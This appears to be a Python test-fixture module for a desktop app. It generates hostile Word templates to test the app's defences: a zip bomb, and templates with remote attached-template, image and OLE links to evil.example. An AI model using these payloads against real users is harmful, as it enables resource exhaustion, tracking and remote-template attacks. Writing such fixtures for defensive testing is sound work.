"""Group templates as an attacker would make them, for the export and service tests: the bundled template
rebuilt with parts added or changed, a zip bomb, a template that would make Word fetch from elsewhere."""

from __future__ import annotations

import functools
import io
import re
import zipfile

from samverkan_desktop.infra.config import resources_dir

DEFAULT_TEMPLATE = resources_dir() / "templates" / "samverkan.docx"
EVIL = "https://evil.example"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rebuilt(extra: dict[str, bytes] | None = None, change=None, *, source: bytes | None = None) -> bytes:
    """The bundled template with parts added (``extra``) or changed (``change(name, data) -> data``)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source or DEFAULT_TEMPLATE.read_bytes())) as original, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in original.infolist():
            data = original.read(info)
            target.writestr(info.filename, change(info.filename, data) if change else data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


@functools.cache
def zip_bomb(parts: int = 12, size: int = 60 * 1024 * 1024) -> bytes:
    """Twelve parts of 60 MB of zeros, each under the per-part limit; a few hundred kilobytes compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(DEFAULT_TEMPLATE.read_bytes())) as original, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        for info in original.infolist():
            target.writestr(info.filename, original.read(info))
        chunk = bytes(1024 * 1024)
        for index in range(parts):
            with target.open(f"word/media/image{index}.png", "w") as part:
                for _ in range(size // len(chunk)):
                    part.write(chunk)
    return out.getvalue()


def hostile_template() -> bytes:
    """A template that would make Word fetch: a remote attached template (settings), a linked picture and a
    linked object (document relationships), and a linked picture in the header's relationships."""
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdEvil" Type="{R}/attachedTemplate" Target="{EVIL}/mall.dotm" TargetMode="External"/>'
        "</Relationships>").encode()

    def change(name: str, data: bytes) -> bytes:
        text = data.decode("utf-8")
        if name == "word/settings.xml":
            text = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdEvil"/>', text, count=1)
            if 'xmlns:r="' not in text.split(">", 2)[1]:
                text = text.replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
        elif name == "word/_rels/document.xml.rels" or re.fullmatch(r"word/_rels/header\d*\.xml\.rels", name):
            text = text.replace("</Relationships>",
                                f'<Relationship Id="rIdPixel" Type="{R}/image" Target="{EVIL}/pixel.png" '
                                'TargetMode="External"/>'
                                f'<Relationship Id="rIdOle" Type="{R}/oleObject" Target="{EVIL}/data.xlsx" '
                                'TargetMode="External"/></Relationships>')
        return text.encode("utf-8")

    return rebuilt({"word/_rels/settings.xml.rels": settings_rels}, change)
